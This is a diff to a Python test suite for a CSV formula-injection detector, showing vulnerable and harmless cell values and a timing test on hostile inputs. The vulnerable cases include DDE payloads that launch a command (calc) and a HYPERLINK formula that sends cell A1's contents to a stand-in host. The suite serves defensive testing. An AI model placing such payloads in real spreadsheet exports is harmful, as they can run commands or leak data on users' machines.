@@ -47,7 +47,7 @@ VULNERABLE: Cases = {
     "a cell of CSV": (CSV + OK, {"v": '=HYPERLINK("http://e.test/"&A1)'}),
     "a cell after a sign": (CSV + OK, {"v": "+1+cmd|' /C calc'!A0"}),
     "a cell after @": (CSV + OK, {"v": "@SUM(1+1)*cmd|' /C calc'!A0"}),
-    "a cell after a tab": (CSV + OK, {"v": "\t=1+1"}),
+    "a cell after a tab": (CSV + OK, {"v": "\t=A1+1"}),
     "a wide sign": (CSV + OK, {"v": '\uff1dHYPERLINK("http://e.test")'}),
     "rows of dictionaries": (ROWS + DICTS + OK, {"v": "-2+3+cmd|' /C calc'!A0"}),
     "CSV by hand": (body("text/csv", "f\"a,b\\n{event['v']},1\\n\""), {"v": "=A1*2"}),
@@ -192,11 +192,11 @@ HARMLESS: Cases = {
         f"a cell: {value}": (CSV + OK, {"v": value})
         for value in (
             *("-5", "+49 30 1234567", "+49-30-1234567", "@handle", "-- none --", "- milk", "= x y"),
-            *("-12.5", "a=b", "+1 (555) 123-4567", "@ada @bob", "-3 degrees", "'=1+1", "=)", "+"),
+            *("-12.5", "a=b", "+1 (555) 123-4567", "@ada @bob", "-3 degrees", "'=A1+1", "=1+1", "=)", "+"),
             *("2026-01-02", "-1.5e3", "=====", "--flag value", "@home (new)", "+ extra (paid)"),
         )
     },
-    "CSV of the event's": (body("text/csv", "event['v']"), {"v": "a,b\n=1+1,2\n"}),
+    "CSV of the event's": (body("text/csv", "event['v']"), {"v": "a,b\n=A1+1,2\n"}),
     "CSV that is made safe": (
         body("text/csv", "'a\\n\"' + \"'\" + event['v'] + '\"\\n'"),
         {"v": "=HYPERLINK(1)"},
@@ -324,7 +324,7 @@ def test_hostile_texts_take_linear_time() -> None:
     started = time.process_time()
     for text in ("=" + "(" * 32_000, "=" + "a!" * 16_000, "=" + '"a"&' * 8_000, "=" + "'" * 32_000):
         is_formula(text)
-    for text in ('"' * 250_000, "=1+1," * 50_000, ",\n" * 120_000, '"a""' * 60_000, "=" * 250_000):
+    for text in ('"' * 250_000, "=A1+1," * 50_000, ",\n" * 120_000, '"a""' * 60_000, "=" * 250_000):
         list(cells.formulas(text, ",;\t"))
     assert time.process_time() - started < 2.5
     guard = Guard("/function/code")
